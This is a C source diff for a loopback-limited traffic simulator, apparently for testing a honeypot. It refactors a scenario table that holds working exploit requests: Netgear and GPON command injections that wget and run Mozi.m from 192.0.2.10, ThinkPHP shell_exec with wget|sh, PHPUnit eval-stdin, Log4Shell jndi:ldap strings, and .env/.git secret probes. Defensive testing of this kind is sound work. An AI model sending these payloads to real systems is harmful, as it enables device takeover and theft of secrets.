@@ -13,6 +13,7 @@
 #include <pthread.h>
 #include <signal.h>
 #include <stdarg.h>
+#include <stddef.h>
 #include <stdatomic.h>
 #include <stdbool.h>
 #include <stdio.h>
@@ -23,7 +24,7 @@
 #include <unistd.h>
 
 #include "addr.h"
-#include "units.h"
+#include "options.h"
 
 #define SIM_MAX_SOURCES 4096
 #define SIM_MAX_CONCURRENCY 512
@@ -76,8 +77,11 @@ struct sim_stats {
 	atomic_llong bytes_out, bytes_in;
 };
 
+struct sim_scenario;
+
 struct sim_run {
 	struct sim_options o;
+	const struct sim_scenario *scenario;
 	struct sim_stats st;
 	atomic_int next_source;
 	pthread_mutex_t rate_lock;
@@ -385,106 +389,163 @@ static void sim_flood(struct sim_run *run, uint32_t src)
 	free(data);
 }
 
+/* A row's request template: "{host}" becomes the target's ADDR:PORT and
+ * "{path}" each of the row's paths in turn (one connection each). Writes
+ * at most cap - 1 bytes and a NUL. */
+static void sim_expand(const char *tmpl, const char *host, const char *path,
+    char *buf, size_t cap)
+{
+	size_t n = 0;
+
+	while (*tmpl && n + 1 < cap) {
+		const char *with = NULL;
+		if (strncmp(tmpl, "{host}", 6) == 0)
+			with = host;
+		else if (strncmp(tmpl, "{path}", 6) == 0)
+			with = path;
+		if (!with) {
+			buf[n++] = *tmpl++;
+			continue;
+		}
+		size_t len = strlen(with);
+		if (len > cap - 1 - n)
+			len = cap - 1 - n;
+		memcpy(buf + n, with, len);
+		n += len;
+		tmpl += 6;
+	}
+	buf[n] = '\0';
+}
+
+#define SIM_MAX_PATHS 4              /* paths of one data scenario */
+#define SIM_REQUEST_MAX 2048         /* one expanded request */
+
+/* One row per scenario. A scenario that only sends requests and reads the
+ * replies is data: its request template, and its paths when it makes one
+ * connection per path. The others have a script of their own. */
 struct sim_scenario {
 	const char *name;
-	const char *what;
+	const char *what;            /* the line in --help */
+	void (*script)(struct sim_run *run, uint32_t src, int arg); /* NULL: data */
+	int arg;                     /* the script's: Code Red's fill byte, Nimda's paths */
+	const char *request;         /* data: the template (sim_expand) */
+	const char *paths[SIM_MAX_PATHS]; /* data: one request each; none: one request */
 };
+
+static void sim_script_codered(struct sim_run *run, uint32_t src, int fill)
+{
+	sim_codered(run, src, (char)fill);
+}
+
+static void sim_script_silent(struct sim_run *run, uint32_t src, int arg)
+{
+	(void)arg;
+	sim_quiet(run, src, run->o.hold_ms);
+}
+
+static void sim_script_ident_shy(struct sim_run *run, uint32_t src, int arg)
+{
+	(void)arg;
+	sim_ident_shy(run, src);
+}
+
+static void sim_script_nmap_like(struct sim_run *run, uint32_t src, int arg)
+{
+	(void)arg;
+	sim_nmap_like(run, src);
+}
+
+static void sim_script_flood(struct sim_run *run, uint32_t src, int arg)
+{
+	(void)arg;
+	sim_flood(run, src);
+}
 
 static const struct sim_scenario sim_scenarios[] = {
-	{"codered1", "Code Red I: GET /default.ida?NNNN... with its body, at once"},
-	{"codered2", "Code Red II: GET /default.ida?XXXX..., 3,818 bytes, at once"},
-	{"nimda", "16 connections, one request each, waiting for each reply; a 200 gets the tftp/Admin.dll stage"},
-	{"nimda14", "the Nimda burst with 14 connections"},
-	{"silent", "connects, sends nothing, waits (--hold), leaves at the first server byte"},
-	{"filtered-nimda", "the Nimda burst with every GET lost in the path: 16 handshakes, no data"},
-	{"ident-shy", "like silent, but leaves the moment its ident port is probed"},
-	{"nmap-like", "waits for a banner (--banner-wait, 6s), then GET / HTTP/1.0"},
-	{"masscan-banner", "masscan --banners: GET / with its User-Agent at once"},
-	{"zgrab", "ZGrab2: GET / with its User-Agent at once"},
-	{"spider", "a polite crawler: robots.txt, then two pages"},
-	{"mozi-netgear", "Mozi: Netgear setup.cgi command injection, no headers"},
-	{"gpon", "GPON diag_Form command injection (User-Agent: Hello, World)"},
-	{"thinkphp", "ThinkPHP invokefunction remote code execution"},
-	{"phpunit", "PHPUnit eval-stdin.php under a few prefixes"},
-	{"log4shell", "Log4Shell ${jndi:...} in the URL and headers"},
-	{"env-probe", "secrets probes: /.env, /.git/config, /.git/HEAD"},
-	{"flood", "load: --payload-size bytes, shut down, wait for close"},
+	{"codered1", "Code Red I: GET /default.ida?NNNN... with its body, at once",
+	    .script = sim_script_codered, .arg = 'N'},
+	{"codered2", "Code Red II: GET /default.ida?XXXX..., 3,818 bytes, at once",
+	    .script = sim_script_codered, .arg = 'X'},
+	{"nimda", "16 connections, one request each, waiting for each reply; a 200 gets the tftp/Admin.dll stage",
+	    .script = sim_nimda, .arg = 16},
+	{"nimda14", "the Nimda burst with 14 connections", .script = sim_nimda, .arg = 14},
+	{"silent", "connects, sends nothing, waits (--hold), leaves at the first server byte",
+	    .script = sim_script_silent},
+	{"filtered-nimda", "the Nimda burst with every GET lost in the path: 16 handshakes, no data",
+	    .script = sim_filtered_nimda, .arg = 16},
+	{"ident-shy", "like silent, but leaves the moment its ident port is probed",
+	    .script = sim_script_ident_shy},
+	{"nmap-like", "waits for a banner (--banner-wait, 6s), then GET / HTTP/1.0",
+	    .script = sim_script_nmap_like},
+	{"masscan-banner", "masscan --banners: GET / with its User-Agent at once",
+	    .request = "GET / HTTP/1.0\r\nUser-Agent: masscan/1.3 "
+	    "(https://github.com/robertdavidgraham/masscan)\r\nAccept: */*\r\n\r\n"},
+	{"zgrab", "ZGrab2: GET / with its User-Agent at once",
+	    .request = "GET / HTTP/1.1\r\nHost: {host}\r\nUser-Agent: Mozilla/5.0 zgrab/0.x\r\n"
+	    "Accept: */*\r\nAccept-Encoding: gzip\r\n\r\n"},
+	{"spider", "a polite crawler: robots.txt, then two pages",
+	    .request = "GET {path} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: "
+	    "Mozilla/5.0 (compatible; ExampleBot/2.1; +http://www.example.com/bot.html)"
+	    "\r\nAccept: text/html\r\nConnection: close\r\n\r\n",
+	    .paths = {"/robots.txt", "/", "/index.html"}},
+	{"mozi-netgear", "Mozi: Netgear setup.cgi command injection, no headers",
+	    .request = "GET /setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;"
+	    "wget+http://192.0.2.10:8088/Mozi.m+-O+/tmp/netgear;sh+netgear&curpath=/"
+	    "&currentsetting.htm=1 HTTP/1.0\r\n\r\n"},
+	{"gpon", "GPON diag_Form command injection (User-Agent: Hello, World)",
+	    .request = "POST /GponForm/diag_Form?images/ HTTP/1.1\r\n"
+	    "Host: {host}\r\nUser-Agent: Hello, World\r\nConnection: keep-alive\r\n"
+	    "Accept: */*\r\nContent-Length: 134\r\n\r\n"
+	    "XWebPageName=diag&diag_action=ping&wan_conlist=0"
+	    "&dest_host=``;wget+http://192.0.2.10:8088/Mozi.m+-O+->/tmp/gpon80;sh+/tmp/gpon80&ipv=0"},
+	{"thinkphp", "ThinkPHP invokefunction remote code execution",
+	    .request = "GET /index.php?s=/index/\\think\\app/invokefunction&function="
+	    "call_user_func_array&vars[0]=shell_exec&vars[1][]=wget%20http://192.0.2.10/t.sh"
+	    "%20-O%20-%7Csh HTTP/1.1\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\n\r\n"},
+	{"phpunit", "PHPUnit eval-stdin.php under a few prefixes",
+	    .request = "POST {path}/vendor/phpunit/phpunit/src/Util/PHP/"
+	    "eval-stdin.php HTTP/1.1\r\nHost: {host}\r\nContent-Type: text/plain\r\n"
+	    "Content-Length: 19\r\n\r\n<?php echo(md5(1));",
+	    .paths = {"", "/laravel", "/lib/phpunit"}},
+	{"log4shell", "Log4Shell ${jndi:...} in the URL and headers",
+	    .request = "GET /?x=${jndi:ldap://192.0.2.10:1389/a} HTTP/1.1\r\n"
+	    "Host: {host}\r\nUser-Agent: ${jndi:ldap://192.0.2.10:1389/ua}\r\n"
+	    "X-Api-Version: ${jndi:ldap://192.0.2.10:1389/h}\r\n\r\n"},
+	{"env-probe", "secrets probes: /.env, /.git/config, /.git/HEAD",
+	    .request = "GET {path} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: "
+	    "Mozilla/5.0 (X11; Linux x86_64)\r\nAccept: */*\r\n\r\n",
+	    .paths = {"/.env", "/.git/config", "/.git/HEAD"}},
+	{"flood", "load: --payload-size bytes, shut down, wait for close",
+	    .script = sim_script_flood},
 };
 
+#define SIM_NSCENARIOS (sizeof(sim_scenarios) / sizeof(sim_scenarios[0]))
+
+static const struct sim_scenario *sim_find_scenario(const char *name)
+{
+	for (size_t i = 0; i < SIM_NSCENARIOS; i++)
+		if (strcmp(sim_scenarios[i].name, name) == 0)
+			return &sim_scenarios[i];
+	return NULL;
+}
+
+/* One source's run of its scenario: the script, or the row's requests. */
 static void sim_source_script(struct sim_run *run, uint32_t src)
 {
-	const char *s = run->o.scenario;
-	char req[2048], host[ADDR_TEXT_LEN];
+	const struct sim_scenario *sc = run->scenario;
+	char req[SIM_REQUEST_MAX], host[ADDR_TEXT_LEN];
 
+	if (sc->script) {
+		sc->script(run, src, sc->arg);
+		return;
+	}
 	addr_format(&run->o.target, host, sizeof(host));
-	if (!strcmp(s, "codered1"))
-		sim_codered(run, src, 'N');
-	else if (!strcmp(s, "codered2"))
-		sim_codered(run, src, 'X');
-	else if (!strcmp(s, "nimda"))
-		sim_nimda(run, src, 16);
-	else if (!strcmp(s, "nimda14"))
-		sim_nimda(run, src, 14);
-	else if (!strcmp(s, "silent"))
-		sim_quiet(run, src, run->o.hold_ms);
-	else if (!strcmp(s, "filtered-nimda"))
-		sim_filtered_nimda(run, src, 16);
-	else if (!strcmp(s, "ident-shy"))
-		sim_ident_shy(run, src);
-	else if (!strcmp(s, "nmap-like"))
-		sim_nmap_like(run, src);
-	else if (!strcmp(s, "masscan-banner"))
-		sim_request(run, src, "GET / HTTP/1.0\r\nUser-Agent: masscan/1.3 "
-		    "(https://github.com/robertdavidgraham/masscan)\r\nAccept: */*\r\n\r\n");
-	else if (!strcmp(s, "zgrab")) {
-		sim_format(req, sizeof(req), "GET / HTTP/1.1\r\nHost: %s\r\nUser-Agent: "
-		    "Mozilla/5.0 zgrab/0.x\r\nAccept: */*\r\nAccept-Encoding: gzip\r\n\r\n", host);
+	for (int i = 0; i == 0 || (i < SIM_MAX_PATHS && sc->paths[i]); i++) {
+		if (i > 0 && sim_expired(run))
+			break;
+		sim_expand(sc->request, host, sc->paths[i] ? sc->paths[i] : "", req, sizeof(req));
 		sim_request(run, src, req);
-	} else if (!strcmp(s, "spider")) {
-		static const char *const pages[] = {"/robots.txt", "/", "/index.html"};
-		for (int i = 0; i < 3; i++) {
-			sim_format(req, sizeof(req), "GET %s HTTP/1.1\r\nHost: %s\r\nUser-Agent: "
-			    "Mozilla/5.0 (compatible; ExampleBot/2.1; +http://www.example.com/bot.html)"
-			    "\r\nAccept: text/html\r\nConnection: close\r\n\r\n", pages[i], host);
-			sim_request(run, src, req);
-		}
-	} else if (!strcmp(s, "mozi-netgear"))
-		sim_request(run, src, "GET /setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;"
-		    "wget+http://192.0.2.10:8088/Mozi.m+-O+/tmp/netgear;sh+netgear&curpath=/"
-		    "&currentsetting.htm=1 HTTP/1.0\r\n\r\n");
-	else if (!strcmp(s, "gpon")) {
-		static const char body[] = "XWebPageName=diag&diag_action=ping&wan_conlist=0"
-		    "&dest_host=``;wget+http://192.0.2.10:8088/Mozi.m+-O+->/tmp/gpon80;sh+/tmp/gpon80&ipv=0";
-		sim_format(req, sizeof(req), "POST /GponForm/diag_Form?images/ HTTP/1.1\r\n"
-		    "Host: %s\r\nUser-Agent: Hello, World\r\nConnection: keep-alive\r\n"
-		    "Accept: */*\r\nContent-Length: %zu\r\n\r\n%s", host, sizeof(body) - 1, body);
-		sim_request(run, src, req);
-	} else if (!strcmp(s, "thinkphp"))
-		sim_request(run, src, "GET /index.php?s=/index/\\think\\app/invokefunction&function="
-		    "call_user_func_array&vars[0]=shell_exec&vars[1][]=wget%20http://192.0.2.10/t.sh"
-		    "%20-O%20-%7Csh HTTP/1.1\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\n\r\n");
-	else if (!strcmp(s, "phpunit")) {
-		static const char *const prefixes[] = {"", "/laravel", "/lib/phpunit"};
-		for (int i = 0; i < 3; i++) {
-			sim_format(req, sizeof(req), "POST %s/vendor/phpunit/phpunit/src/Util/PHP/"
-			    "eval-stdin.php HTTP/1.1\r\nHost: %s\r\nContent-Type: text/plain\r\n"
-			    "Content-Length: 19\r\n\r\n<?php echo(md5(1));", prefixes[i], host);
-			sim_request(run, src, req);
-		}
-	} else if (!strcmp(s, "log4shell")) {
-		sim_format(req, sizeof(req), "GET /?x=${jndi:ldap://192.0.2.10:1389/a} HTTP/1.1\r\n"
-		    "Host: %s\r\nUser-Agent: ${jndi:ldap://192.0.2.10:1389/ua}\r\n"
-		    "X-Api-Version: ${jndi:ldap://192.0.2.10:1389/h}\r\n\r\n", host);
-		sim_request(run, src, req);
-	} else if (!strcmp(s, "env-probe")) {
-		static const char *const paths[] = {"/.env", "/.git/config", "/.git/HEAD"};
-		for (int i = 0; i < 3; i++) {
-			sim_format(req, sizeof(req), "GET %s HTTP/1.1\r\nHost: %s\r\nUser-Agent: "
-			    "Mozilla/5.0 (X11; Linux x86_64)\r\nAccept: */*\r\n\r\n", paths[i], host);
-			sim_request(run, src, req);
-		}
-	} else if (!strcmp(s, "flood"))
-		sim_flood(run, src);
+	}
 }
 
 static uint32_t sim_source_addr(const struct sim_options *o, int i)
@@ -517,7 +578,7 @@ static void sim_usage(FILE *out)
 	    "           [--reply-timeout DUR] [--hold DUR] [--banner-wait DUR]\n"
 	    "           [--duration DUR] [--payload-size N] [--ident-port P]\n"
 	    "           [--i-own-this-target]\n\nscenarios:\n");
-	for (size_t i = 0; i < sizeof(sim_scenarios) / sizeof(sim_scenarios[0]); i++)
+	for (size_t i = 0; i < SIM_NSCENARIOS; i++)
 		fprintf(out, "  %-15s %s\n", sim_scenarios[i].name, sim_scenarios[i].what);
 }
 
@@ -560,107 +621,98 @@ static int sim_parse_range(const char *text, uint32_t *first, uint32_t *last)
 	return *first <= *last ? 0 : -1;
 }
 
+static int sim_set_target(void *base, const char *value, char *err, size_t errlen)
+{
+	struct sim_options *o = base;
+
+	if (addr_parse(value, &o->target) == 0)
+		return 0;
+	snprintf(err, errlen, "target: '%s' is not ADDR:PORT", value);
+	return -1;
+}
+
+static int sim_set_range(void *base, const char *value, char *err, size_t errlen)
+{
+	struct sim_options *o = base;
+
+	if (sim_parse_range(value, &o->bind_first, &o->bind_last) == 0)
+		return 0;
+	snprintf(err, errlen, "bind-range: '%s' is not A.B.C.D-E.F.G.H", value);
+	return -1;
+}
+
+#define SIM_FIELD(name) offsetof(struct sim_options, name)
+#define SIM_DURATION_MAX (24ULL * 3600 * 1000)
+#define SIM_PAYLOAD_MAX (64 * 1024 * 1024)
+
+static const struct option_row sim_options[] = {
+	{.name = "target", .type = OPTION_CUSTOM, .set = sim_set_target,
+	    .metavar = "HOST:PORT", .help = "where to connect (loopback unless told otherwise)"},
+	{.name = "sources", .type = OPTION_INT, .field = SIM_FIELD(sources),
+	    .min = 1, .max = SIM_MAX_SOURCES, .metavar = "N", .help = "simulated source addresses"},
+	{.name = "count", .type = OPTION_INT, .field = SIM_FIELD(count),
+	    .min = 1, .max = 1000000, .metavar = "N", .help = "runs per source"},
+	{.name = "concurrency", .type = OPTION_INT, .field = SIM_FIELD(concurrency),
+	    .min = 0, .max = SIM_MAX_CONCURRENCY, .metavar = "C", .help = "sources at once"},
+	{.name = "rate", .type = OPTION_DOUBLE, .field = SIM_FIELD(rate),
+	    .min = 0, .max = 1000000, .metavar = "R", .help = "connections per second; 0 unlimited"},
+	{.name = "bind-range", .type = OPTION_CUSTOM, .set = sim_set_range,
+	    .metavar = "A-B", .help = "IPv4 source addresses"},
+	{.name = "reply-timeout", .type = OPTION_DURATION, .field = SIM_FIELD(reply_ms),
+	    .max = SIM_DURATION_MAX, .metavar = "DUR", .help = "how long a peer waits for a reply",
+	    .syntax = "is not a duration up to 24h", .over = "is not a duration up to 24h"},
+	{.name = "hold", .type = OPTION_DURATION, .field = SIM_FIELD(hold_ms),
+	    .max = SIM_DURATION_MAX, .metavar = "DUR", .help = "silent, ident-shy: how long to wait",
+	    .syntax = "is not a duration up to 24h", .over = "is not a duration up to 24h"},
+	{.name = "banner-wait", .type = OPTION_DURATION, .field = SIM_FIELD(banner_ms),
+	    .max = SIM_DURATION_MAX, .metavar = "DUR", .help = "nmap-like: wait for a banner",
+	    .syntax = "is not a duration up to 24h", .over = "is not a duration up to 24h"},
+	{.name = "duration", .type = OPTION_DURATION, .field = SIM_FIELD(duration_ms),
+	    .max = SIM_DURATION_MAX, .metavar = "DUR", .help = "the whole run's bound",
+	    .syntax = "is not a duration up to 24h", .over = "is not a duration up to 24h"},
+	{.name = "payload-size", .type = OPTION_SIZE, .field = SIM_FIELD(payload_size),
+	    .max = SIM_PAYLOAD_MAX, .metavar = "N", .help = "flood: bytes per connection",
+	    .syntax = "is not a size up to 64M", .over = "is not a size up to 64M"},
+	{.name = "ident-port", .type = OPTION_INT, .field = SIM_FIELD(ident_port),
+	    .min = 1, .max = 65535, .metavar = "P", .help = "ident-shy listens here on its source"},
+	{.name = "i-own-this-target", .type = OPTION_FLAG, .field = SIM_FIELD(own_target),
+	    .help = "allow a target outside loopback"},
+};
+
 int sim_main(int argc, char **argv)
 {
-	static const struct option longopts[] = {
-		{"target", required_argument, NULL, 't'},
-		{"sources", required_argument, NULL, 's'},
-		{"count", required_argument, NULL, 'n'},
-		{"concurrency", required_argument, NULL, 'c'},
-		{"rate", required_argument, NULL, 'r'},
-		{"bind-range", required_argument, NULL, 'b'},
-		{"reply-timeout", required_argument, NULL, 'R'},
-		{"hold", required_argument, NULL, 'H'},
-		{"banner-wait", required_argument, NULL, 'B'},
-		{"duration", required_argument, NULL, 'D'},
-		{"payload-size", required_argument, NULL, 'p'},
-		{"ident-port", required_argument, NULL, 'i'},
-		{"i-own-this-target", no_argument, NULL, 'O'},
-		{"help", no_argument, NULL, 'h'},
-		{NULL, 0, NULL, 0},
-	};
+	static const struct options_command cmd = {"sim", sim_options,
+	    sizeof(sim_options) / sizeof(sim_options[0]), sim_usage, false};
 	static struct sim_run run;
-	const char *range = NULL;
-	bool have_target = false;
-	int c;
+	const char *scenario = NULL;
+	int rc;
 
 	run.o = (struct sim_options){.sources = 1, .count = 1, .concurrency = 0,
 	    .reply_ms = 5000, .hold_ms = 5000, .banner_ms = 6000,
 	    .duration_ms = 120000, .payload_size = 3800, .ident_port = 113};
 	/* The scenario comes first: "flypaper sim nimda --target ...". */
 	if (argc >= 2 && argv[1][0] != '-') {
-		run.o.scenario = argv[1];
+		scenario = argv[1];
 		argv[1] = argv[0];
 		argv++;
 		argc--;
 	}
-	opterr = 0;
-	optind = 1;
-	while ((c = getopt_long(argc, argv, "+h", longopts, NULL)) != -1) {
-		char *end = NULL;
-		size_t size;
-		switch (c) {
-		case 't':
-			if (addr_parse(optarg, &run.o.target) < 0)
-				return sim_fail("target: '%s' is not ADDR:PORT", optarg);
-			have_target = true;
-			break;
-		case 's': run.o.sources = (int)strtol(optarg, &end, 10); break;
-		case 'n': run.o.count = (int)strtol(optarg, &end, 10); break;
-		case 'c': run.o.concurrency = (int)strtol(optarg, &end, 10); break;
-		case 'r': run.o.rate = strtod(optarg, &end); break;
-		case 'i': run.o.ident_port = (int)strtol(optarg, &end, 10); break;
-		case 'b': range = optarg; break;
-		case 'O': run.o.own_target = true; break;
-		case 'p':
-			if (units_parse_size(optarg, &size) < 0 || size > 64 * 1024 * 1024)
-				return sim_fail("payload-size: '%s' is not a size up to 64M", optarg);
-			run.o.payload_size = size;
-			break;
-		case 'R': case 'H': case 'B': case 'D': {
-			uint64_t ms;
-			if (units_parse_duration(optarg, &ms) < 0 || ms > 24ULL * 3600 * 1000)
-				return sim_fail("'%s' is not a duration up to 24h", optarg);
-			*(c == 'R' ? &run.o.reply_ms : c == 'H' ? &run.o.hold_ms
-			  : c == 'B' ? &run.o.banner_ms : &run.o.duration_ms) = ms;
-			break;
-		}
-		case 'h':
-			sim_usage(stdout);
-			return 0;
-		default:
-			sim_usage(stderr);
-			return sim_fail("unknown option or missing value: '%s'", argv[optind - 1]);
-		}
-		if (end && *end)
-			return sim_fail("'%s' is not a number", optarg);
-	}
-	if (optind < argc)
-		return sim_fail("unexpected argument '%s'", argv[optind]);
-	if (!run.o.scenario)
+	rc = options_parse(&cmd, argc, argv, &run.o);
+	if (rc <= 0)
+		return rc < 0 ? 2 : 0;
+	if (!scenario)
 		return sim_fail("name one scenario (flypaper sim --help lists them)");
-	bool known = false;
-	for (size_t i = 0; i < sizeof(sim_scenarios) / sizeof(sim_scenarios[0]); i++)
-		known |= strcmp(sim_scenarios[i].name, run.o.scenario) == 0;
-	if (!known)
-		return sim_fail("unknown scenario '%s' (flypaper sim --help lists them)",
-		    run.o.scenario);
-	if (!have_target)
+	if (!(run.scenario = sim_find_scenario(scenario)))
+		return sim_fail("unknown scenario '%s' (flypaper sim --help lists them)", scenario);
+	run.o.scenario = scenario;
+	if (run.o.target.u.sa.sa_family == AF_UNSPEC)
 		return sim_fail("--target HOST:PORT is required");
 	if (!sim_is_loopback(&run.o.target) && !run.o.own_target)
 		return sim_fail("refusing a target outside loopback without --i-own-this-target");
-	if (run.o.sources < 1 || run.o.sources > SIM_MAX_SOURCES || run.o.count < 1 ||
-	    run.o.count > 1000000 || run.o.concurrency < 0 ||
-	    run.o.concurrency > SIM_MAX_CONCURRENCY || run.o.rate < 0 ||
-	    run.o.ident_port < 1 || run.o.ident_port > 65535)
-		return sim_fail("sources 1..%d, count 1..1000000, concurrency 0..%d, rate >= 0",
-		    SIM_MAX_SOURCES, SIM_MAX_CONCURRENCY);
-	if (range) {
-		if (sim_parse_range(range, &run.o.bind_first, &run.o.bind_last) < 0)
-			return sim_fail("bind-range: '%s' is not A.B.C.D-E.F.G.H", range);
+	if (run.o.bind_first) {
 		if ((run.o.bind_first >> 24) != 127 && !run.o.own_target)
 			return sim_fail("bind-range outside 127.0.0.0/8 needs --i-own-this-target");
-	} else if (run.o.sources > 1 || !strcmp(run.o.scenario, "ident-shy")) {
+	} else if (run.o.sources > 1 || run.scenario->script == sim_script_ident_shy) {
 		run.o.bind_first = 0x7f000002;   /* 127.0.0.2-127.0.0.250 */
 		run.o.bind_last = 0x7f0000fa;
 	}
@@ -668,7 +720,7 @@ int sim_main(int argc, char **argv)
 		return sim_fail("source ranges are IPv4; use an IPv4 target");
 	if (!run.o.concurrency)
 		run.o.concurrency = run.o.sources < 16 ? run.o.sources : 16;
-	if (!strcmp(run.o.scenario, "flood") && run.o.concurrency < 2)
+	if (run.scenario->script == sim_script_flood && run.o.concurrency < 2)
 		run.o.concurrency = 64;
 	pthread_mutex_init(&run.rate_lock, NULL);
 	signal(SIGPIPE, SIG_IGN);
